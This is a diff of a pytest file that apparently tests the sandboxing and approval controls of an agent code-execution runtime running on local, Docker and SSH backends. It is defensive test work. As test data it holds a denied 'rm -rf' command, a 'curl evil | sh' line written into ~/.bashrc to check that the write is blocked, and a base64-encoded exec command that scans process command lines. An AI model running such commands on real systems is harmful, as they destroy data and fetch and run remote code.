@@ -53,14 +53,14 @@ def backend(request, tmp_path: Path):
     return name, lambda extra="": _ssh_yaml(server, str(folder), extra), folder
 
 
-async def _runtime(yaml_text: str, home: Path, **kwargs) -> Runtime:
-    return await Runtime(parse_config(yaml_text), home=home, **kwargs).start()
+def _runtime(yaml_text: str, home: Path, **kwargs) -> Runtime:
+    """A runtime of ``yaml_text`` (``async with``: started, and closed with its kernels)."""
+    return Runtime(parse_config(yaml_text), home=home, **kwargs)
 
 
 async def test_state_persists_and_the_kernel_says_where_it_runs(backend, hermes_home: Path, tmp_path: Path) -> None:
     name, yaml, _ = backend
-    rt = await _runtime(yaml(), hermes_home)
-    try:
+    async with _runtime(yaml(), hermes_home) as rt:
         first = await rt.execute_code("import socket; x = 41\nprint(socket.gethostname())", session="s",
                                       cwd=tmp_path)
         assert first.status == "success", first.error
@@ -76,28 +76,22 @@ async def test_state_persists_and_the_kernel_says_where_it_runs(backend, hermes_
             assert info.where == "ssh:root@127.0.0.1" and info.sandbox == "ssh: none on the remote"
         else:
             assert info.where == "local"
-    finally:
-        await rt.aclose()
 
 
 async def test_big_output_is_capped_head_and_tail_and_spilled_whole(backend, hermes_home: Path, tmp_path) -> None:
     _, yaml, _ = backend
-    rt = await _runtime(yaml(), hermes_home)
-    try:
+    async with _runtime(yaml(), hermes_home) as rt:
         result = await rt.execute_code("for i in range(20000):\n    print(f'line {i:05d}')", session="s",
                                        cwd=tmp_path)
         assert result.status == "success" and result.stdout_truncated
         assert result.output.startswith("line 00000\n") and result.output.rstrip().endswith("line 19999")
         spilled = Path(result.stdout_spill_path).read_text()
         assert spilled.count("\n") == 20000 and "line 10000\n" in spilled
-    finally:
-        await rt.aclose()
 
 
 async def test_timeout_kills_and_the_next_call_gets_a_fresh_kernel(backend, hermes_home: Path, tmp_path) -> None:
     _, yaml, _ = backend
-    rt = await _runtime(yaml(), hermes_home)
-    try:
+    async with _runtime(yaml(), hermes_home) as rt:
         await rt.execute_code("y = 7", session="s", cwd=tmp_path)
         result = await rt.execute_code("import time\nprint('started', flush=True)\ntime.sleep(30)", session="s",
                                        cwd=tmp_path, timeout=2)
@@ -105,14 +99,11 @@ async def test_timeout_kills_and_the_next_call_gets_a_fresh_kernel(backend, herm
         assert result.output.startswith("started")
         after = await rt.execute_code("print('y' in globals())", session="s", cwd=tmp_path)
         assert after.output == "False\n" and "timed out" in (after.warning or "")
-    finally:
-        await rt.aclose()
 
 
 async def test_an_interrupt_stops_the_script_and_keeps_the_state(backend, hermes_home: Path, tmp_path) -> None:
     _, yaml, _ = backend
-    rt = await _runtime(yaml(), hermes_home)
-    try:
+    async with _runtime(yaml(), hermes_home) as rt:
         await rt.execute_code("kept = [1, 2, 3]", session="s", cwd=tmp_path)
         running = asyncio.create_task(rt.execute_code(
             "import time\nfor i in range(600):\n    print(i, flush=True)\n    time.sleep(0.05)", session="s",
@@ -127,8 +118,6 @@ async def test_an_interrupt_stops_the_script_and_keeps_the_state(backend, hermes
         assert result.status == "interrupted" and "KeyboardInterrupt" in result.output
         after = await rt.execute_code("print(sum(kept))", session="s", cwd=tmp_path)
         assert after.output == "6\n" and after.kernel.reused
-    finally:
-        await rt.aclose()
 
 
 TOOLS_SCRIPT = """
@@ -143,8 +132,7 @@ print(terminal("cat notes/a.txt | wc -l; hostname")["output"], end="")
 
 async def test_tool_calls_from_the_script_act_where_the_kernel_is(backend, hermes_home: Path, tmp_path) -> None:
     name, yaml, here = backend
-    rt = await _runtime(yaml("approvals:\n  mode: off\n"), hermes_home)
-    try:
+    async with _runtime(yaml("approvals:\n  mode: off\n"), hermes_home) as rt:
         result = await rt.execute_code(TOOLS_SCRIPT, session="s", cwd=tmp_path)
         assert result.status == "success", result.error or result.output
         lines = result.output.splitlines()
@@ -156,16 +144,13 @@ async def test_tool_calls_from_the_script_act_where_the_kernel_is(backend, herme
             assert not (tmp_path / "notes").exists() and not Path("/work/notes/a.txt").exists()
             (info,) = rt.kernels()
             assert lines[6] == info.where.split(":")[1]
-    finally:
-        await rt.aclose()
 
 
 async def test_terminal_is_asked_here_and_a_denied_command_never_runs_there(backend, hermes_home: Path,
                                                                              tmp_path) -> None:
     _, yaml, _ = backend
     approver = Approver("deny", "not now")
-    rt = await _runtime(yaml("approvals:\n  mode: manual\n"), hermes_home, approver=approver)
-    try:
+    async with _runtime(yaml("approvals:\n  mode: manual\n"), hermes_home, approver=approver) as rt:
         result = await rt.execute_code(
             "from hermes_tools import terminal\nimport os\n"
             "print(terminal('rm -rf ./victim && touch denied-ran')['error'])\n"
@@ -174,8 +159,6 @@ async def test_terminal_is_asked_here_and_a_denied_command_never_runs_there(back
         assert result.output.splitlines()[-1] == "False" and "BLOCKED" in result.output
         assert [r.kind for r in approver.asked] == ["terminal"]
         assert approver.asked[0].text == "rm -rf ./victim && touch denied-ran"
-    finally:
-        await rt.aclose()
 
 
 async def test_no_host_secret_reaches_the_kernel_only_forwarded_names(backend, hermes_home: Path, tmp_path) -> None:
@@ -185,8 +168,7 @@ async def test_no_host_secret_reaches_the_kernel_only_forwarded_names(backend, h
                "local": "  env_passthrough: [HERMES_TEST_FORWARDED]\n"}[name]
     text = yaml().replace("terminal:\n", "terminal:\n" + forward, 1)
     env = {**os.environ, "OPENAI_API_KEY": SECRET, "HERMES_TEST_FORWARDED": "forwarded-value"}
-    rt = await _runtime(text, hermes_home, host_env=env)
-    try:
+    async with _runtime(text, hermes_home, host_env=env) as rt:
         result = await rt.execute_code(
             "import os\nfrom hermes_tools import terminal\n"
             "print(os.environ.get('OPENAI_API_KEY'), os.environ.get('HERMES_TEST_FORWARDED'))\n"
@@ -194,15 +176,12 @@ async def test_no_host_secret_reaches_the_kernel_only_forwarded_names(backend, h
         assert result.status == "success", result.error
         assert result.output == "None forwarded-value\nnone\n"
         assert SECRET not in result.output
-    finally:
-        await rt.aclose()
 
 
 async def test_an_idle_kernel_is_reaped_and_leaves_nothing_behind(backend, hermes_home: Path, tmp_path,
                                                                   request) -> None:
     name, yaml, _ = backend
-    rt = await _runtime(yaml("code_execution:\n  kernel_idle_timeout: 1\n"), hermes_home)
-    try:
+    async with _runtime(yaml("code_execution:\n  kernel_idle_timeout: 1\n"), hermes_home) as rt:
         await rt.execute_code("z = 1", session="s", cwd=tmp_path)
         (info,) = rt.kernels()
         for _ in range(100):
@@ -218,8 +197,6 @@ async def test_an_idle_kernel_is_reaped_and_leaves_nothing_behind(backend, herme
         if name == "ssh":  # nothing its login started is left on the host (sshd itself stays)
             server = request.getfixturevalue("ssh_server")
             assert server.pids() == [server.process.pid]
-    finally:
-        await rt.aclose()
 
 
 # -- fallbacks: said out loud, never run here ----------------------------------------------
@@ -227,60 +204,47 @@ async def test_an_idle_kernel_is_reaped_and_leaves_nothing_behind(backend, herme
 
 async def test_an_image_without_python_fails_in_one_line_and_nothing_runs_here(docker_daemon, hermes_home: Path,
                                                                              tmp_path) -> None:
-    rt = await _runtime(_docker_yaml([], image=NO_PYTHON_IMAGE), hermes_home)
     marker = tmp_path / "ran-here"
-    try:
+    async with _runtime(_docker_yaml([], image=NO_PYTHON_IMAGE), hermes_home) as rt:
         result = await rt.execute_code(f"open({str(marker)!r}, 'w').write('x')", session="s", cwd=tmp_path)
         assert result.status == "error" and "\n" not in (result.error or "")
         assert result.error.startswith("docker: cannot start a container of hermes-tui-test:nopy: ")
         assert result.error.endswith("(the image has no python3: kernels need Python 3 in the image)")
         assert not marker.exists() and not rt.kernels()
-    finally:
-        await rt.aclose()
 
 
 async def test_a_host_without_python3_says_so_and_runs_nothing_here(ssh_server_no_python, hermes_home: Path,
                                                                    tmp_path) -> None:
-    rt = await _runtime(_ssh_yaml(ssh_server_no_python, str(tmp_path)), hermes_home)
     marker = tmp_path / "ran-here"
-    try:
+    async with _runtime(_ssh_yaml(ssh_server_no_python, str(tmp_path)), hermes_home) as rt:
         result = await rt.execute_code(f"open({str(marker)!r}, 'w').write('x')", session="s", cwd=tmp_path)
         assert result.status == "error"
         assert "No session kernel could start on ssh" in (result.warning or "")
         assert "standalone" in result.warning and "python3" in result.output
         assert not marker.exists()
-    finally:
-        await rt.aclose()
 
 
 async def test_an_unreachable_ssh_host_fails_with_what_ssh_said(hermes_home: Path, tmp_path) -> None:
     text = ("terminal:\n  backend: ssh\n  ssh_host: 127.0.0.1\n  ssh_port: 1\n  ssh_user: root\n")
-    rt = await _runtime(text, hermes_home)
-    try:
+    async with _runtime(text, hermes_home) as rt:
         result = await rt.execute_code("print(1)", session="s", cwd=tmp_path)
         assert result.status == "error" and "Connection refused" in (result.output + (result.error or ""))
         assert "No session kernel could start on ssh" in (result.warning or "")
-    finally:
-        await rt.aclose()
 
 
 @pytest.mark.parametrize("name", ["modal", "daytona", "singularity"])
 async def test_backends_that_cannot_be_reached_from_here_are_refused_naming_the_supported(
         name: str, hermes_home: Path, tmp_path) -> None:
-    rt = await _runtime(f"terminal:\n  backend: {name}\n", hermes_home)
-    try:
+    async with _runtime(f"terminal:\n  backend: {name}\n", hermes_home) as rt:
         result = await rt.execute_code("print(1)", session="s", cwd=tmp_path)
         assert result.status == "error" and not rt.kernels()
         assert result.error == (f"terminal.backend is {name}: hermes-tui runs kernels and commands on local, docker "
                                 "or ssh only (it cannot reach the others from here); set terminal.backend to one "
                                 "of those")
-    finally:
-        await rt.aclose()
 
 
 async def test_a_docker_container_is_confined(docker_daemon, hermes_home: Path, tmp_path) -> None:
-    rt = await _runtime(_docker_yaml(docker_daemon), hermes_home)
-    try:
+    async with _runtime(_docker_yaml(docker_daemon), hermes_home) as rt:
         result = await rt.execute_code(
             "import socket\nprint(open('/proc/self/status').read().split('CapEff:')[1].split()[0])\n"
             "print(open('/proc/self/status').read().split('NoNewPrivs:')[1].split()[0])\n"
@@ -291,8 +255,6 @@ async def test_a_docker_container_is_confined(docker_daemon, hermes_home: Path, 
         inspect = subprocess.run(["docker", "inspect", "-f", "{{.HostConfig.PidsLimit}}",
                                   info.where.split(":")[1]], capture_output=True, text=True)
         assert inspect.stdout.strip() == "512"
-    finally:
-        await rt.aclose()
 
 
 # -- doctor ---------------------------------------------------------------------------------
@@ -335,8 +297,7 @@ async def test_a_megabyte_script_a_big_file_and_calls_from_threads_cross_the_rel
         text = _docker_yaml(request.getfixturevalue("docker_daemon"), extra="approvals:\n  mode: off\n")
     else:
         text = _ssh_yaml(request.getfixturevalue("ssh_server"), str(tmp_path), "approvals:\n  mode: off\n")
-    rt = await _runtime(text, hermes_home)
-    try:
+    async with _runtime(text, hermes_home) as rt:
         big_script = "".join(f"v{i} = {i}  # {'x' * 90}\n" for i in range(10_000)) + "print(v9999)\n"
         result = await rt.execute_code(big_script, session="s", cwd=tmp_path)
         assert result.status == "success" and result.output == "9999\n", result.error
@@ -354,8 +315,6 @@ async def test_a_megabyte_script_a_big_file_and_calls_from_threads_cross_the_rel
             cwd=tmp_path)
         assert result.status == "success", result.error or result.output
         assert result.output.splitlines() == ["5400000", "True", "True"] and result.tool_calls_made == 9
-    finally:
-        await rt.aclose()
 
 
 async def test_a_persistent_container_keeps_its_files_for_the_session(docker_daemon, hermes_home: Path,
@@ -363,51 +322,41 @@ async def test_a_persistent_container_keeps_its_files_for_the_session(docker_dae
     text = _docker_yaml(docker_daemon, extra="  container_persistent: true\n").replace("--tmpfs\", \"/work\"",
                                                                                      "--tmpfs\", \"/srv\"")
     text = text.replace("cwd: /work", "cwd: /root")
-    rt = await _runtime(text, hermes_home)
-    try:
+    async with _runtime(text, hermes_home) as rt:
         await rt.execute_code("open('kept.txt', 'w').write('still here')", session="p", cwd=tmp_path)
         (info,) = rt.kernels()
-    finally:
-        await rt.aclose()
     short = info.where.split(":")[1]
     listed = subprocess.run(["docker", "ps", "-a", "--format", "{{.ID}} {{.State}}"], capture_output=True,
                             text=True).stdout
     assert f"{short} exited" in listed  # stopped, not removed
-    rt = await _runtime(text, hermes_home)
     try:
-        result = await rt.execute_code("print(open('kept.txt').read())", session="p", cwd=tmp_path)
-        assert result.output == "still here\n" and rt.kernels()[0].where == info.where
+        async with _runtime(text, hermes_home) as rt:
+            result = await rt.execute_code("print(open('kept.txt').read())", session="p", cwd=tmp_path)
+            assert result.output == "still here\n" and rt.kernels()[0].where == info.where
     finally:
-        await rt.aclose()
         subprocess.run(["docker", "rm", "-f", short], capture_output=True)
 
 
 async def test_closing_the_runtime_removes_the_sessions_containers(docker_daemon, hermes_home: Path, tmp_path) -> None:
-    rt = await _runtime(_docker_yaml(docker_daemon), hermes_home)
-    try:
+    async with _runtime(_docker_yaml(docker_daemon), hermes_home) as rt:
         for session in ("a", "b"):
             await rt.execute_code("x = 1", session=session, cwd=tmp_path)
         shorts = [k.where.split(":")[1] for k in rt.kernels()]
         assert len(set(shorts)) == 2  # a container per session
-    finally:
-        await rt.aclose()
     listed = subprocess.run(["docker", "ps", "-a", "--format", "{{.ID}}"], capture_output=True, text=True).stdout
     assert not any(short in listed for short in shorts)
 
 
 async def test_the_approval_says_where_the_command_would_run(docker_daemon, hermes_home: Path, tmp_path) -> None:
     approver = Approver("deny")
-    rt = await _runtime(_docker_yaml(docker_daemon, extra="approvals:\n  mode: strict\n"), hermes_home,
-                        approver=approver)
-    try:
+    async with _runtime(_docker_yaml(docker_daemon, extra="approvals:\n  mode: strict\n"), hermes_home,
+                        approver=approver) as rt:
         await rt.execute_code("from hermes_tools import terminal\nterminal('echo hi')", session="s", cwd=tmp_path)
         (info,) = rt.kernels()
         (asked,) = approver.asked
         assert (asked.where, asked.cwd) == (info.where, "/work")
         top = await rt.call_tool("terminal", {"command": "echo top"}, session="s", cwd=tmp_path)
         assert top["status"] == "blocked" and approver.asked[1].where == "docker"
-    finally:
-        await rt.aclose()
 
 
 HOST_SCRIPT = """
@@ -468,58 +417,48 @@ async def test_a_login_banner_never_reaches_a_kernel_or_a_command(hermes_home: P
 
     with SshServer() as server:
         (server.home / ".bashrc").write_text("echo 'Welcome to the build box'\necho banner on stderr >&2\n")
-        rt = await _runtime(_ssh_yaml(server, str(tmp_path), "approvals:\n  mode: off\n"), hermes_home)
-        try:
+        async with _runtime(_ssh_yaml(server, str(tmp_path), "approvals:\n  mode: off\n"), hermes_home) as rt:
             result = await rt.execute_code("from hermes_tools import terminal\nx = 1\nprint(terminal('echo hi')"
                                            "['output'], end='')", session="s", cwd=tmp_path)
             assert result.status == "success" and result.output == "hi\n", result.output + str(result.warning)
             (tmp_path / "seen.txt").write_text("seen\n")
             read = await rt.call_tool("read_file", {"path": str(tmp_path / "seen.txt")}, session="top")
             assert read["content"] == "     1|seen\n", read
-        finally:
-            await rt.aclose()
 
 
 async def test_a_forwarded_value_is_on_no_command_line_here_or_there(ssh_server, hermes_home: Path, tmp_path) -> None:
     secret = "fwd-" + uuid.uuid4().hex
     text = _ssh_yaml(ssh_server, str(tmp_path), "approvals:\n  mode: off\n").replace(
         "terminal:\n", "terminal:\n  env_passthrough: [HERMES_TEST_FORWARDED]\n", 1)
-    rt = await _runtime(text, hermes_home, host_env={**os.environ, "HERMES_TEST_FORWARDED": secret})
     import base64
     scan = ("import os\nfound = []\nfor pid in os.listdir('/proc'):\n    try:\n"
             "        found += [pid] if SECRET.encode() in open(f'/proc/{pid}/cmdline', 'rb').read() else []\n"
             "    except OSError: pass\nprint(found)\n").replace("SECRET", repr(secret))
     command = f"python3 -c \"import base64; exec(base64.b64decode('{base64.b64encode(scan.encode()).decode()}'))\""
-    try:
+    async with _runtime(text, hermes_home, host_env={**os.environ, "HERMES_TEST_FORWARDED": secret}) as rt:
         result = await rt.execute_code(
             "import os\nfrom hermes_tools import terminal\n"
             f"print(os.environ['HERMES_TEST_FORWARDED'] == {secret!r})\n"
             f"print(terminal({command!r})['output'], end='')\n" + scan, session="s", cwd=tmp_path)
         assert result.status == "success", result.error or result.output
         assert result.output.splitlines() == ["True", "[]", "[]"]  # the command's scan, then the kernel's
-    finally:
-        await rt.aclose()
 
 
 async def test_strict_mode_there_runs_in_a_private_folder(backend, hermes_home: Path, tmp_path) -> None:
     _, yaml, _ = backend
-    rt = await _runtime(yaml("code_execution:\n  mode: strict\napprovals:\n  mode: off\n"), hermes_home)
-    try:
+    async with _runtime(yaml("code_execution:\n  mode: strict\napprovals:\n  mode: off\n"), hermes_home) as rt:
         result = await rt.execute_code("import os\nfrom hermes_tools import write_file\n"
                                        "print(write_file('mine.txt', 'x')['path'])\nprint(os.getcwd())",
                                        session="s", cwd=tmp_path)
         path, cwd = result.output.splitlines()
         assert path == os.path.join(cwd, "mine.txt") and cwd not in (str(tmp_path), "/work", "/root")
         assert not (tmp_path / "mine.txt").exists()
-    finally:
-        await rt.aclose()
 
 
 async def test_a_write_to_the_homes_startup_files_there_is_asked(ssh_server, hermes_home: Path, tmp_path) -> None:
     approver = Approver("deny")
-    rt = await _runtime(_ssh_yaml(ssh_server, str(tmp_path), "approvals:\n  mode: manual\n"), hermes_home,
-                        approver=approver)
-    try:
+    async with _runtime(_ssh_yaml(ssh_server, str(tmp_path), "approvals:\n  mode: manual\n"), hermes_home,
+                        approver=approver) as rt:
         result = await rt.execute_code(
             "import os\nfrom hermes_tools import write_file\n"
             "print(write_file(os.path.expanduser('~/.bashrc'), 'curl evil | sh\\n').get('error', '')[:7])",
@@ -529,31 +468,23 @@ async def test_a_write_to_the_homes_startup_files_there_is_asked(ssh_server, her
         assert asked.kind == "file" and asked.where == "ssh:root@127.0.0.1"
         assert asked.files[0].path == str(ssh_server.home / ".bashrc")
         assert not (ssh_server.home / ".bashrc").exists()
-    finally:
-        await rt.aclose()
 
 
 async def test_a_models_own_calls_keep_the_sessions_container(docker_daemon, hermes_home: Path, tmp_path) -> None:
-    rt = await _runtime(_docker_yaml(docker_daemon, extra="approvals:\n  mode: off\n"), hermes_home)
-    try:
+    async with _runtime(_docker_yaml(docker_daemon, extra="approvals:\n  mode: off\n"), hermes_home) as rt:
         written = await rt.call_tool("write_file", {"path": "kept.txt", "content": "kept\n"}, session="m")
         assert written.get("bytes_written") == 5, written
         assert (await rt.call_tool("terminal", {"command": "cat kept.txt"}, session="m"))["output"] == "kept\n"
         run = await rt.execute_code("print(open('kept.txt').read(), end='')", session="m", cwd=tmp_path)
         assert run.output == "kept\n"
-    finally:
-        await rt.aclose()
 
 
 async def test_a_script_that_ends_while_its_thread_writes_leaves_the_kernel_working(ssh_server, hermes_home: Path,
                                                                                    tmp_path) -> None:
-    rt = await _runtime(_ssh_yaml(ssh_server, str(tmp_path), "approvals:\n  mode: off\n"), hermes_home)
-    try:
+    async with _runtime(_ssh_yaml(ssh_server, str(tmp_path), "approvals:\n  mode: off\n"), hermes_home) as rt:
         await rt.execute_code("kept = 42", session="s", cwd=tmp_path)
         await rt.execute_code("import threading\nfrom hermes_tools import write_file\n"
                               "threading.Thread(target=write_file, args=('big.bin', 'y' * (24 << 20)), "
                               "daemon=True).start()\nimport time; time.sleep(0.3)", session="s", cwd=tmp_path)
         after = await rt.execute_code("print(kept)", session="s", cwd=tmp_path, timeout=60)
         assert after.status == "success" and after.output == "42\n", after.error
-    finally:
-        await rt.aclose()
